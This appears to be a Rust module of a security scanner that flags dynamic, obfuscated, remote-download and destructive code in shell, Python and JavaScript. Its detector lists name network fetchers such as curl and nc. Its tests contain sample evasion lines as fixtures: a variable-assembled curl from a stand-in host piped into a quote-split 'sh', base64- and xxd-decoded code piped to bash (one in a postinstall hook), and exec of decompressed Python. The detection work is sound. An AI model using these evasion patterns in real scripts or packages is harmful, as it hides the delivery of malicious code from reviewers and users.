//! Code whose text is only known when it runs, read from tree-sitter's parse of shell, Python
//! and JavaScript, in three degrees:
//! - **dynamic code** (a reviewer looks): `eval`, `bash -c "$(…)"`/`sh -c "$X"`, `source <(…)`,
//!   text piped into a shell or interpreter, a command name that is a variable (`$PY x`) or is
//!   assembled from them (`$c$r`), Python `exec(`/`eval(`/`compile(` and JavaScript `eval(`,
//!   `new Function(`, `vm.runIn…(` of anything but a literal. The `eval "$(ssh-agent -s)"` and
//!   `eval "$(pyenv init -)"` idioms are dynamic code too, named as such. `exec "$@"` and
//!   `exec node …` replace the shell with a fixed command and are not dynamic.
//! - **obfuscation** (security-sensitive): code decoded or decompressed and then run
//!   (`base64 -d | sh`, `bash -c "$(… | base64 -d)"`, `exec(zlib.decompress(…))`), a command
//!   name split by quotes or escapes (`s""h`, `'b'ash`), or assembled from variables that hold
//!   fixed text (`c=cu; r=rl; $c$r`): nothing but hiding does that.
//! - **remote code** (security-sensitive): a download piped into a shell when the downloader's
//!   name was hidden (`$c$r … | sh`); the plain spellings are [`super::sensitive`]'s.
//!
//! Destructive commands ([`super::destructive`]) are read in the same pass.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};
use tree_sitter::{Node, Parser};

use super::Sources;
use super::destructive;
use super::scan::{Evidence, is_test_path};
use super::shell::{self, Cmd, Script, Shape, Word};
use super::syntax::{self, Grammar, Unit, excerpt, line_of, nodes, text};

/// How much a finding weighs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// Escalates: a reviewer reads what it runs.
    Dynamic,
    /// Security-sensitive: code hidden from a reader.
    Obfuscated,
    /// Security-sensitive: downloaded code run.
    RemoteCode,
    /// Security-sensitive: `rm -rf` of `/` or a home.
    Destructive,
}

/// One finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    pub kind: Kind,
    #[serde(flatten)]
    pub evidence: Evidence,
}

/// Everything found, in file and line order, one per (kind, what, file, line).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Dynamic {
    pub found: Vec<Finding>,
}

impl Dynamic {
    /// The findings of one kind.
    pub fn of(&self, kind: Kind) -> impl Iterator<Item = &Evidence> {
        self.found
            .iter()
            .filter(move |f| f.kind == kind)
            .map(|f| &f.evidence)
    }
}

/// How much of a call or command a finding quotes.
const QUOTED: usize = 60;

/// Shells: `-c` takes a script, and with no script they run standard input.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "busybox"];

/// Programs that run the code they read on standard input when given no script.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "python", "python2", "python3",
    "node", "perl", "ruby", "php", "pwsh", "lua", "deno", "bun",
];

const FETCHERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "http", "nc", "ncat"];

/// Find the dynamic, obfuscated and destructive code of a skill.
pub fn analyze(sources: &Sources) -> Dynamic {
    let mut found = Vec::new();
    let mut parser = Parser::new();
    for source in &sources.files {
        let tests = is_test_path(&source.path);
        let mut push = |kind: Kind, line: u32, what: String| {
            // A suite's own helpers (a coverage tracer compiling the file it measures) are
            // not what the skill runs; hidden or destructive code is flagged wherever it is.
            if kind == Kind::Dynamic && tests {
                return;
            }
            let finding = Finding {
                kind,
                evidence: Evidence::new(what, &source.path, line),
            };
            if !found.contains(&finding) {
                found.push(finding);
            }
        };
        for unit in syntax::units(source) {
            match unit.grammar {
                Grammar::Bash => {
                    let script = shell::read(&mut parser, &unit);
                    in_shell(&script, &mut push);
                    for (line, what) in destructive::in_shell(&script) {
                        push(Kind::Destructive, line, what);
                    }
                }
                Grammar::Python => {
                    if let Some(tree) = syntax::parse(&mut parser, unit.grammar, unit.text) {
                        in_python(tree.root_node(), &unit, &mut push);
                    }
                }
                _ => {
                    if let Some(tree) = syntax::parse(&mut parser, unit.grammar, unit.text) {
                        in_javascript(tree.root_node(), &unit, &mut push);
                    }
                }
            }
        }
    }
    found.sort_by(|a, b| {
        (&a.evidence.file, a.evidence.line, a.kind).cmp(&(
            &b.evidence.file,
            b.evidence.line,
            b.kind,
        ))
    });
    Dynamic { found }
}

// ---------------------------------------------------------------------------------------------
// Shell

/// A program that turns encoded or compressed text back into what it hides.
fn is_decoder(cmd: &Cmd) -> bool {
    let Some(name) = cmd.program() else {
        return false;
    };
    let has = |flags: &[&str]| cmd.args.iter().any(|a| flags.contains(&a.text()));
    let short = |letter: char| {
        cmd.args.iter().any(|a| {
            let t = a.text();
            t.starts_with('-') && !t.starts_with("--") && t.contains(letter)
        })
    };
    match name {
        "base64" | "base32" | "basenc" => short('d') || short('D') || has(&["--decode"]),
        "xxd" => short('r') || has(&["--revert"]),
        "openssl" => short('d') || has(&["-base64", "-a"]),
        "gzip" | "bzip2" | "xz" | "lzma" | "zstd" | "lz4" | "brotli" => {
            short('d') || has(&["--decompress", "--uncompress"])
        }
        "uudecode" | "gunzip" | "zcat" | "bunzip2" | "bzcat" | "unxz" | "xzcat" | "unlzma"
        | "unzstd" | "zstdcat" | "rev" => true,
        _ => false,
    }
}

fn is_fetcher(cmd: &Cmd, script: &Script) -> Option<String> {
    let name = match &cmd.name.shape {
        Shape::Assembled(vars) => script.resolve(vars)?,
        _ => return None,
    };
    FETCHERS.contains(&name.as_str()).then_some(name)
}

/// Whether an interpreter given `args` runs its standard input: no script, no `-c`/`-m`/`-e`.
fn reads_stdin(args: &[Word]) -> bool {
    for arg in args {
        let t = arg.text();
        if t == "--" || t == "-" || t == "/dev/stdin" {
            return true;
        }
        if !t.starts_with('-') {
            return false;
        }
        if matches!(t, "-m" | "-e" | "-E" | "-r" | "--command" | "--eval")
            || (!t.starts_with("--") && t.contains('c'))
        {
            return false;
        }
    }
    true
}

/// The script a shell's `-c` (`-c`, `-lc`, `-ec`, `-xc`, …) runs.
fn dash_c(args: &[Word]) -> Option<&Word> {
    let at = args.iter().position(|a| {
        let t = a.text();
        t.starts_with('-') && !t.starts_with("--") && t.contains('c')
    })?;
    args[at + 1..].iter().find(|a| !a.text().starts_with('-'))
}

fn in_shell(script: &Script, push: &mut impl FnMut(Kind, u32, String)) {
    for cmd in &script.commands {
        let line = cmd.line;
        // The command name.
        match &cmd.name.shape {
            Shape::Split => push(
                Kind::Obfuscated,
                line,
                format!(
                    "command name split by quotes: {} (runs {})",
                    excerpt(&cmd.name.raw, QUOTED),
                    cmd.name.text()
                ),
            ),
            Shape::Variable(_) => push(
                Kind::Dynamic,
                line,
                format!(
                    "command name from a variable: {}",
                    excerpt(&cmd.name.raw, QUOTED)
                ),
            ),
            Shape::Assembled(vars) => match script.resolve(vars) {
                Some(resolved) => push(
                    Kind::Obfuscated,
                    line,
                    format!(
                        "command name assembled from variables: {} (runs {})",
                        excerpt(&cmd.name.raw, QUOTED),
                        excerpt(&resolved, QUOTED)
                    ),
                ),
                None => push(
                    Kind::Dynamic,
                    line,
                    format!(
                        "command name assembled from variables: {}",
                        excerpt(&cmd.name.raw, QUOTED)
                    ),
                ),
            },
            Shape::Substitution => {
                let decoded = script.inside(&cmd.name).any(is_decoder);
                push(
                    if decoded {
                        Kind::Obfuscated
                    } else {
                        Kind::Dynamic
                    },
                    line,
                    format!("command name from {}", excerpt(&cmd.name.raw, QUOTED)),
                );
            }
            Shape::Plain | Shape::Arguments | Shape::Path => {}
        }
        let Some(program) = cmd.program() else {
            continue;
        };
        // Code from a substitution: `eval "$(…)"`, `bash -c "$(…)"`, `source <(…)`.
        let code_word: Option<(&Word, &str)> = match program {
            "eval" => cmd.args.first().map(|w| (w, "eval")),
            "source" | "." => cmd.args.first().filter(|w| w.process).map(|w| (w, program)),
            p if SHELLS.contains(&p) => dash_c(&cmd.args)
                .map(|w| (w, "-c"))
                .or_else(|| cmd.args.iter().find(|w| w.process).map(|w| (w, "<(…)"))),
            p if INTERPRETERS.contains(&p) => {
                cmd.args.iter().find(|w| w.process).map(|w| (w, "<(…)"))
            }
            _ => None,
        };
        if let Some((word, how)) = code_word {
            code_from(script, cmd, program, word, how, push);
        }
        // Text piped into a shell or an interpreter.
        let stdin_code = INTERPRETERS.contains(&program) && reads_stdin(&cmd.args)
            || (matches!(program, "source" | ".")
                && cmd.args.first().is_some_and(|a| a.text() == "/dev/stdin"));
        if stdin_code && !cmd.upstream.is_empty() {
            let upstream: Vec<&Cmd> = cmd.upstream.iter().map(|&i| &script.commands[i]).collect();
            if let Some(decoder) = upstream.iter().find(|c| is_decoder(c)) {
                push(
                    Kind::Obfuscated,
                    line,
                    format!(
                        "decoded code run: {} | {program}",
                        decoder.program().unwrap_or_default()
                    ),
                );
            } else if let Some(fetcher) = upstream.iter().find_map(|c| is_fetcher(c, script)) {
                push(Kind::RemoteCode, line, format!("{fetcher} | {program}"));
            } else {
                push(Kind::Dynamic, line, format!("code piped into {program}"));
            }
        }
    }
}

/// `eval "$(…)"`, `bash -c "$X"`, `source <(…)`: what the word holds decides how it weighs.
fn code_from(
    script: &Script,
    cmd: &Cmd,
    program: &str,
    word: &Word,
    how: &str,
    push: &mut impl FnMut(Kind, u32, String),
) {
    let inside: Vec<&Cmd> = script.inside(word).collect();
    let shown = match how {
        "-c" => format!("{program} -c {}", excerpt(&word.raw, QUOTED)),
        "<(…)" => format!("{program} {}", excerpt(&word.raw, QUOTED)),
        _ => format!("{program} {}", excerpt(&word.raw, QUOTED)),
    };
    if let Some(decoder) = inside.iter().find(|c| is_decoder(c)) {
        push(
            Kind::Obfuscated,
            cmd.line,
            format!(
                "decoded code run: {shown} ({})",
                decoder.program().unwrap_or_default()
            ),
        );
        return;
    }
    let fixed = matches!(word.shape, Shape::Plain | Shape::Split);
    if fixed {
        // `bash -c 'echo hi'`: the code is right there. `eval` of fixed text is still eval.
        if program == "eval" {
            push(
                Kind::Dynamic,
                cmd.line,
                format!("eval of a string: {shown}"),
            );
        }
        return;
    }
    // `eval "$(pyenv init -)"`: a fixed tool prints the code; common, and still a review.
    let idiom = program == "eval"
        && word.template == "$(…)"
        && inside.first().is_some_and(|c| {
            c.name.shape == Shape::Plain && c.args.iter().all(|a| a.value.is_some())
        });
    if idiom {
        let tool = inside.first().and_then(|c| c.program()).unwrap_or_default();
        push(
            Kind::Dynamic,
            cmd.line,
            format!("{shown}: runs the code {tool} prints (a setup idiom)"),
        );
    } else {
        push(Kind::Dynamic, cmd.line, shown);
    }
}

// ---------------------------------------------------------------------------------------------
// Python

/// Calls that decode or decompress (by the last part of their name).
const PYTHON_DECODERS: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "b85decode",
    "a85decode",
    "urlsafe_b64decode",
    "standard_b64decode",
    "decodebytes",
    "decodestring",
    "decompress",
    "unhexlify",
    "a2b_base64",
    "a2b_hex",
    "fromhex",
    "loads",
    "decode",
];

fn in_python(root: Node<'_>, unit: &Unit<'_>, push: &mut impl FnMut(Kind, u32, String)) {
    let src = unit.text;
    // name = value, for `code = zlib.decompress(…); exec(code)`.
    let mut decoded_names: HashMap<&str, String> = HashMap::new();
    for node in nodes(root) {
        if node.kind() == "assignment"
            && let (Some(left), Some(right)) = (
                node.child_by_field_name("left"),
                node.child_by_field_name("right"),
            )
            && left.kind() == "identifier"
            && let Some(decoder) = python_decoder(right, src)
        {
            decoded_names.insert(text(left, src), decoder);
        }
    }
    for node in nodes(root) {
        if node.kind() != "call" {
            continue;
        }
        let Some(function) = node.child_by_field_name("function") else {
            continue;
        };
        let name = text(function, src);
        let builtin =
            function.kind() == "identifier" && matches!(name, "exec" | "eval" | "compile");
        let via_builtins = matches!(name, "builtins.exec" | "builtins.eval");
        if !(builtin || via_builtins) {
            continue;
        }
        let Some(first) = node
            .child_by_field_name("arguments")
            .and_then(|args| args.named_child(0))
        else {
            continue;
        };
        if python_literal(first) {
            continue;
        }
        let shown = excerpt(text(node, src), QUOTED);
        let decoder = python_decoder(first, src).or_else(|| {
            (first.kind() == "identifier")
                .then(|| decoded_names.get(text(first, src)).cloned())
                .flatten()
        });
        match decoder {
            Some(decoder) => push(
                Kind::Obfuscated,
                line_of(node, unit),
                format!("decoded code run: {shown} ({decoder})"),
            ),
            None => push(Kind::Dynamic, line_of(node, unit), shown),
        }
    }
}

/// A string with no interpolation, or several of them side by side.
fn python_literal(node: Node<'_>) -> bool {
    let string =
        |n: Node<'_>| n.kind() == "string" && !nodes(n).any(|i| i.kind() == "interpolation");
    match node.kind() {
        "string" => string(node),
        "concatenated_string" => {
            let mut cursor = node.walk();
            node.named_children(&mut cursor).all(string)
        }
        _ => false,
    }
}

/// The first decoding call in `node` (`zlib.decompress`), if any.
fn python_decoder(node: Node<'_>, src: &str) -> Option<String> {
    nodes(node).find_map(|n| {
        if n.kind() != "call" {
            return None;
        }
        let function = text(n.child_by_field_name("function")?, src);
        let last = function.rsplit('.').next().unwrap_or(function);
        // `.decode()` of bytes is text, not code: only a codec's decode counts.
        let counts = match last {
            "decode" => function.starts_with("codecs."),
            "loads" => function.starts_with("marshal.") || function.starts_with("pickle."),
            _ => PYTHON_DECODERS.contains(&last),
        };
        counts.then(|| function.to_owned())
    })
}

// ---------------------------------------------------------------------------------------------
// JavaScript

const JS_DECODERS: &[&str] = &[
    "atob",
    "inflateSync",
    "inflateRawSync",
    "gunzipSync",
    "unzipSync",
    "brotliDecompressSync",
    "fromCharCode",
    "unescape",
];

fn in_javascript(root: Node<'_>, unit: &Unit<'_>, push: &mut impl FnMut(Kind, u32, String)) {
    let src = unit.text;
    let mut decoded_names: HashMap<&str, String> = HashMap::new();
    for node in nodes(root) {
        if node.kind() == "variable_declarator"
            && let (Some(name), Some(value)) = (
                node.child_by_field_name("name"),
                node.child_by_field_name("value"),
            )
            && let Some(decoder) = js_decoder(value, src)
        {
            decoded_names.insert(text(name, src), decoder);
        }
    }
    for node in nodes(root) {
        let (callee, constructed) = match node.kind() {
            "call_expression" => (node.child_by_field_name("function"), false),
            "new_expression" => (node.child_by_field_name("constructor"), true),
            _ => continue,
        };
        let Some(callee) = callee else {
            continue;
        };
        let name = text(callee, src);
        let runs_code = match callee.kind() {
            "identifier" => name == "eval" && !constructed || name == "Function",
            "member_expression" => {
                let property = callee
                    .child_by_field_name("property")
                    .map(|p| text(p, src))
                    .unwrap_or_default();
                let object = callee
                    .child_by_field_name("object")
                    .map(|o| text(o, src))
                    .unwrap_or_default();
                matches!(
                    property,
                    "runInNewContext" | "runInThisContext" | "runInContext" | "compileFunction"
                ) || (constructed && property == "Script" && object == "vm")
                    || (name == "window.eval" || name == "globalThis.eval")
            }
            _ => false,
        };
        if !runs_code {
            continue;
        }
        let Some(args) = node.child_by_field_name("arguments") else {
            continue;
        };
        let mut cursor = args.walk();
        let args: Vec<Node<'_>> = args.named_children(&mut cursor).collect();
        if args.iter().all(|a| js_literal(*a)) {
            continue;
        }
        let shown = excerpt(text(node, src), QUOTED);
        let decoder = args.iter().find_map(|a| {
            js_decoder(*a, src).or_else(|| {
                (a.kind() == "identifier")
                    .then(|| decoded_names.get(text(*a, src)).cloned())
                    .flatten()
            })
        });
        match decoder {
            Some(decoder) => push(
                Kind::Obfuscated,
                line_of(node, unit),
                format!("decoded code run: {shown} ({decoder})"),
            ),
            None => push(Kind::Dynamic, line_of(node, unit), shown),
        }
    }
}

fn js_literal(node: Node<'_>) -> bool {
    match node.kind() {
        "string" | "number" => true,
        "template_string" => !nodes(node).any(|n| n.kind() == "template_substitution"),
        _ => false,
    }
}

/// The first decoding call in `node`: `atob(…)`, `zlib.inflateSync(…)`,
/// `Buffer.from(x, "base64")`.
fn js_decoder(node: Node<'_>, src: &str) -> Option<String> {
    nodes(node).find_map(|n| {
        if n.kind() != "call_expression" {
            return None;
        }
        let function = text(n.child_by_field_name("function")?, src);
        let last = function.rsplit('.').next().unwrap_or(function);
        if JS_DECODERS.contains(&last) {
            return Some(function.to_owned());
        }
        let encoded = last == "from"
            && function.ends_with("Buffer.from")
            && n.child_by_field_name("arguments").is_some_and(|args| {
                let t = text(args, src);
                t.contains("base64") || t.contains("hex")
            });
        encoded.then(|| "Buffer.from(…, \"base64\")".to_owned())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (kind, what, file, line) of each finding.
    fn found(files: &[(&str, &str)]) -> Vec<(Kind, String, String, u32)> {
        analyze(&Sources::from_texts(files))
            .found
            .into_iter()
            .map(|f| (f.kind, f.evidence.what, f.evidence.file, f.evidence.line))
            .collect()
    }

    fn f(kind: Kind, what: &str, file: &str, line: u32) -> (Kind, String, String, u32) {
        (kind, what.to_owned(), file.to_owned(), line)
    }

    #[test]
    fn the_shell_evasions_of_the_issue() {
        let got = found(&[(
            "run.sh",
            "#!/bin/bash\nc=cu; r=rl; $c$r -s https://x.example.net/p | s\"\"h\nbash -c \"$(echo aGk= | base64 -d)\"\necho aGk= | base64 --decode | 'b'ash\n",
        )]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "command name assembled from variables: $c$r (runs curl)",
                    "run.sh",
                    2
                ),
                f(
                    Kind::Obfuscated,
                    "command name split by quotes: s\"\"h (runs sh)",
                    "run.sh",
                    2
                ),
                f(Kind::RemoteCode, "curl | sh", "run.sh", 2),
                f(
                    Kind::Obfuscated,
                    "decoded code run: bash -c \"$(echo aGk= | base64 -d)\" (base64)",
                    "run.sh",
                    3
                ),
                f(
                    Kind::Obfuscated,
                    "command name split by quotes: 'b'ash (runs bash)",
                    "run.sh",
                    4
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: base64 | bash",
                    "run.sh",
                    4
                ),
            ]
        );
    }

    #[test]
    fn eval_and_variable_commands_escalate_and_idioms_say_so() {
        let got = found(&[(
            "setup.sh",
            "eval \"$(ssh-agent -s)\"\neval \"$(pyenv init -)\"\neval \"$cmd\"\n$PYTHON -m pip install x\nsh -c \"$1\"\necho \"$script\" | bash\nsource <(kubectl completion bash)\n",
        )]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Dynamic,
                    "eval \"$(ssh-agent -s)\": runs the code ssh-agent prints (a setup idiom)",
                    "setup.sh",
                    1
                ),
                f(
                    Kind::Dynamic,
                    "eval \"$(pyenv init -)\": runs the code pyenv prints (a setup idiom)",
                    "setup.sh",
                    2
                ),
                f(Kind::Dynamic, "eval \"$cmd\"", "setup.sh", 3),
                f(
                    Kind::Dynamic,
                    "command name from a variable: $PYTHON",
                    "setup.sh",
                    4
                ),
                f(Kind::Dynamic, "sh -c \"$1\"", "setup.sh", 5),
                f(Kind::Dynamic, "code piped into bash", "setup.sh", 6),
                f(
                    Kind::Dynamic,
                    "source <(kubectl completion bash)",
                    "setup.sh",
                    7
                ),
            ]
        );
    }

    #[test]
    fn fixed_commands_and_words_containing_eval_are_not_flagged() {
        let got = found(&[
            (
                "run.sh",
                "#!/bin/sh\nexec \"$@\"\nexec node server.js\n\"$(dirname \"$0\")/helper.sh\" x\nevaluate x\nrun_eval y\nbash -c 'echo hi'\nfind . -exec sh -c 'echo \"$1\"' _ {} \\;\ncurl -s https://a.io | python3 -m json.tool\nout=$(base64 -d < in.b64)\n\\rm -f x\n\"$VENV/bin/python\" x.py\n",
            ),
            (
                "lib.py",
                "import re, ast\nre.compile(pattern)\nast.literal_eval(text)\nexec(\"print(1)\")\nmodel.eval()\n",
            ),
            (
                "a.js",
                "const r = /eval/;\nobj.eval(x);\nnew Function('a', 'return a');\nconst evaluate = (x) => x;\n",
            ),
        ]);
        assert_eq!(got, vec![]);
    }

    #[test]
    fn python_and_javascript_exec_of_decoded_data_is_obfuscation() {
        let got = found(&[
            (
                "x.py",
                "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b\"eJw=\")))\ncode = base64.b64decode(blob)\nexec(code)\neval(expr)\ncompile(src, \"f\", \"exec\")\nexec(f\"print({x})\")\n",
            ),
            (
                "y.js",
                "eval(atob(s));\nconst c = Buffer.from(p, 'base64').toString();\nnew Function(c)();\neval(input);\nvm.runInNewContext(code);\n",
            ),
        ]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "decoded code run: exec(zlib.decompress(base64.b64decode(b\"eJw=\"))) (zlib.decompress)",
                    "x.py",
                    2
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: exec(code) (base64.b64decode)",
                    "x.py",
                    4
                ),
                f(Kind::Dynamic, "eval(expr)", "x.py", 5),
                f(Kind::Dynamic, "compile(src, \"f\", \"exec\")", "x.py", 6),
                f(Kind::Dynamic, "exec(f\"print({x})\")", "x.py", 7),
                f(
                    Kind::Obfuscated,
                    "decoded code run: eval(atob(s)) (atob)",
                    "y.js",
                    1
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: new Function(c) (Buffer.from(…, \"base64\"))",
                    "y.js",
                    3
                ),
                f(Kind::Dynamic, "eval(input)", "y.js", 4),
                f(Kind::Dynamic, "vm.runInNewContext(code)", "y.js", 5),
            ]
        );
    }

    #[test]
    fn code_in_skill_md_fences_and_package_scripts_is_read() {
        let got = found(&[
            (
                "SKILL.md",
                "---\nname: x\n---\nRun eval on it, in prose.\n```bash\necho aGk= | base64 -d | sh\n```\n",
            ),
            (
                "package.json",
                "{\n  \"scripts\": {\n    \"postinstall\": \"echo $P | xxd -r -p | bash\"\n  }\n}\n",
            ),
            ("tests/helper.py", "exec(source)\n"),
        ]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "decoded code run: base64 | sh",
                    "SKILL.md",
                    6
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: xxd | bash",
                    "package.json",
                    3
                ),
            ]
        );
    }
}
